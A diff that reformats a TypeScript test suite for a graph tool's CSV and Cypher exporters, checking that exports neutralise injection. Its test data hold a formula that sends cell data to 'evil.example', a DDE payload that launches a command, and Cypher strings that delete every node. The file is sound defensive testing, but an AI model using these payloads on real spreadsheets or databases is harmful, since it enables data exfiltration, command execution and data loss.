@@ -27,11 +27,20 @@ describe('export formats read back by independent parsers', () => {
   });
 
   it('neutralise CSV cells a spreadsheet would run as formulas (OWASP), and the values come back whole', () => {
-    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already quoted once", '-5'];
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      "'=already quoted once",
+      '-5',
+    ];
     const node = trickyGraph.nodes[0];
     const graph: ExportGraph = {
       nodes: formulas.map((name, i) => ({ ...node, id: `person:f${i}`, name, aliases: [name], roles: [name] })),
-      edges: [{ ...trickyGraph.edges[1], source: 'person:f0', target: 'person:f1', role: '=cmd|\' /C calc\'!A0' }],
+      edges: [{ ...trickyGraph.edges[1], source: 'person:f0', target: 'person:f1', role: "=cmd|' /C calc'!A0" }],
     };
     const nodesCsv = EXPORT_FORMATS['csv-nodes'].render(graph);
     const edgesCsv = EXPORT_FORMATS['csv-edges'].render(graph);
@@ -53,8 +62,9 @@ describe('export formats read back by independent parsers', () => {
     const cypher = EXPORT_FORMATS.cypher.render(trickyGraph);
     // one statement per line: the injected "; MATCH (n) DETACH DELETE n;" stays inside a literal
     expect(cypher.split('\n').filter((l) => l.startsWith('MATCH (n)'))).toEqual([]);
-    expect(() => EXPORT_FORMATS.cypher.render({ nodes: [], edges: [{ ...trickyGraph.edges[0], type: 'KNOWS]->() DETACH DELETE (' }] }))
-      .toThrow(/not a relationship type/);
+    expect(() =>
+      EXPORT_FORMATS.cypher.render({ nodes: [], edges: [{ ...trickyGraph.edges[0], type: 'KNOWS]->() DETACH DELETE (' }] }),
+    ).toThrow(/not a relationship type/);
   });
 });
 
@@ -72,7 +82,12 @@ for (const testStore of testStores()) {
         expect(represents.citations[0].quote.length).toBeGreaterThan(10);
         expect(represents.citations[0].article.title).toContain('Duvanov');
 
-        const path = await collectExport(store, { kind: 'path', from: 'person:sergei-duvanov', to: 'person:nursultan-nazarbaev', maxLength: 4 });
+        const path = await collectExport(store, {
+          kind: 'path',
+          from: 'person:sergei-duvanov',
+          to: 'person:nursultan-nazarbaev',
+          maxLength: 4,
+        });
         expect(path.nodes.map((n) => n.id)).toEqual(expect.arrayContaining(['person:sergei-duvanov', 'person:nursultan-nazarbaev']));
         const all = await collectExport(store, { kind: 'all', maxNodes: 10_000 });
         expect(all.nodes).toHaveLength(52);
@@ -92,12 +107,19 @@ for (const testStore of testStores()) {
         expect(contested.citations.find((c) => c.status === 'DENIED')).toMatchObject({ quote: DENIAL_QUOTE, saidBy: null });
         const arrest = disputed.nodes.find((n) => n.id === 'event:arrest-and-charging-of-sergei-duvanov')!;
         expect(arrest.disputed).toBe(true);
-        expect(arrest.dates.map((d) => [d.date, d.citations.length])).toEqual([['2002-10', 1], ['2002-11-02', 1]]);
+        expect(arrest.dates.map((d) => [d.date, d.citations.length])).toEqual([
+          ['2002-10', 1],
+          ['2002-11-02', 1],
+        ]);
         expect(disputed.nodes.filter((n) => n.type !== 'EVENT').every((n) => n.dates.length === 0 && !n.disputed)).toBe(true);
         for (const [format, back] of Object.entries(roundTrips(disputed))) expect(back, format).toEqual(sorted(disputed));
         await expect(collectExport(store, { kind: 'all', maxNodes: 51 })).rejects.toThrow(/52 entities, more than the 51/);
-        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:nobody', depth: 1, limit: 10 })).rejects.toThrow(/"person:nobody" does not exist/);
-        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:sergei-duvanov', depth: 9, limit: 10 })).rejects.toThrow(/depth: must be a whole number between 1 and 4/);
+        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:nobody', depth: 1, limit: 10 })).rejects.toThrow(
+          /"person:nobody" does not exist/,
+        );
+        await expect(collectExport(store, { kind: 'neighbourhood', id: 'person:sergei-duvanov', depth: 9, limit: 10 })).rejects.toThrow(
+          /depth: must be a whole number between 1 and 4/,
+        );
       } finally {
         await store.close();
       }
